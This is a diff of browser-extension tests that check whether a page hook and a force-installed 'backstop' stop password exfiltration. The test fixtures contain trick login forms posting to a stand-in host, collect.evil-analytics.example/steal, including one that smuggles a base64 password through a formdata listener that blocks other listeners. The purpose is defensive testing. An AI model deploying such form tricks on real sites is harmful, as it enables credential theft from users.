@@ -5,6 +5,7 @@
 import type { CDPSession, Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { launchWithExtension, waitInWorker, type Launched } from './browser.ts';
+import { launchForceInstalled, type ForceInstalled } from './force-install.ts';
 import { startTestServer, type TestServer } from './server.ts';
 
 const MY_NUMBER = '1234-5678-9018';
@@ -387,5 +388,97 @@ describe('the hook alone (unpacked: no backstop)', () => {
     await page.keyboard.press('Escape');
     expect(await r2).toBe('failed');
     expect(posts('forms.example.net', '/api/realm')).toHaveLength(1);
+  });
+});
+
+// ---- with the backstop: the extension force-installed the way admins install it
+const EVIL = 'https://collect.evil-analytics.example';
+const TRICK_FORM = `<form id="f" method="post" action="${EVIL}/steal">
+  <input name="user" value="taro"><input id="pw" name="password" type="password"><button id="go">ログイン</button></form>`;
+const FORCED_PAGES: Record<string, string> = {
+  // the hook now judges this one again after the page's listener: its dialog, not the backstop's notice
+  '/disabled': html(
+    'disabled',
+    TRICK_FORM,
+    `go.addEventListener('pointerdown', () => { pw.disabled = true; });
+     f.addEventListener('submit', () => { pw.disabled = false; });`,
+  ),
+  // what the hook cannot see: the page's own formdata listener, which stops every other, adds the password
+  '/formdata': html(
+    'formdata',
+    TRICK_FORM.replace(' name="password"', ''),
+    `f.addEventListener('formdata', (e) => { e.formData.append('d', btoa(pw.value)); e.stopImmediatePropagation(); });`,
+  ),
+};
+
+describe('the hook and the backstop (force-installed)', () => {
+  let server: TestServer;
+  let b: ForceInstalled;
+  let page: Page;
+  let mark = 0;
+  const seen = (host: string) => server.requests.slice(mark).filter((r) => r.host === host);
+
+  async function typePassword(p: Page) {
+    await p.locator('#pw').pressSequentially(PASSWORD);
+    await expect
+      .poll(() =>
+        b.worker.evaluate(async () => {
+          const s = (await chrome.storage.session.get('backstopSeen')).backstopSeen as { tabs?: object } | undefined;
+          return Object.keys(s?.tabs ?? {}).length;
+        }),
+      )
+      .toBeGreaterThan(0);
+  }
+
+  beforeAll(async () => {
+    server = await startTestServer();
+    server.route('www.ssk.or.jp', (req, res) => {
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
+      res.end(FORCED_PAGES[(req.url ?? '/').split('?')[0]!] ?? html('ssk', ''));
+    });
+    b = await launchForceInstalled({ hostPort: server.port });
+    // Blocking granted (force-installed): the backstop is on.
+    const status = await waitInWorker(
+      b.worker,
+      async () => (await chrome.storage.local.get('backstopStatus')).backstopStatus as { enforcing?: boolean },
+    );
+    expect(status.enforcing).toBe(true);
+    page = await b.context.newPage();
+  });
+  afterAll(async () => {
+    await b?.close();
+    await server?.close();
+  });
+  beforeEach(async () => {
+    await page.close();
+    page = await b.context.newPage();
+    mark = server.requests.length;
+  });
+
+  it('a field disabled at pointerdown is caught by the hook itself: its dialog; cancelled nothing leaves, confirmed it arrives once (the backstop honours the grant)', async () => {
+    await page.goto('https://www.ssk.or.jp/disabled');
+    await typePassword(page);
+    const d = await Dialog.of(page);
+    await page.click('#go');
+    expect((await d.waitOpen('confirm')).text).toContain('パスワード');
+    await page.keyboard.press('Escape');
+    await page.waitForTimeout(300);
+    expect(seen('collect.evil-analytics.example')).toEqual([]);
+    expect(page.url()).toBe('https://www.ssk.or.jp/disabled');
+    await page.click('#go');
+    await d.waitOpen('confirm');
+    await page.waitForTimeout(800);
+    await Promise.all([page.waitForURL(`${EVIL}/steal`), d.click('send')]);
+    const posts = seen('collect.evil-analytics.example').filter((r) => r.method === 'POST');
+    expect(posts).toHaveLength(1);
+    expect(posts[0]!.body).toContain('password=');
+  });
+
+  it('a password the page adds in its own formdata listener (past the hook) is cancelled by the backstop', async () => {
+    await page.goto('https://www.ssk.or.jp/formdata');
+    await typePassword(page);
+    await Promise.all([page.waitForURL(/backstop-notice\.html#/), page.click('#go')]);
+    expect(await page.getByTestId('backstop-notice').getAttribute('data-clause')).toBe('8.1.1(5)(f)(ｲ)');
+    expect(seen('collect.evil-analytics.example')).toEqual([]);
   });
 });
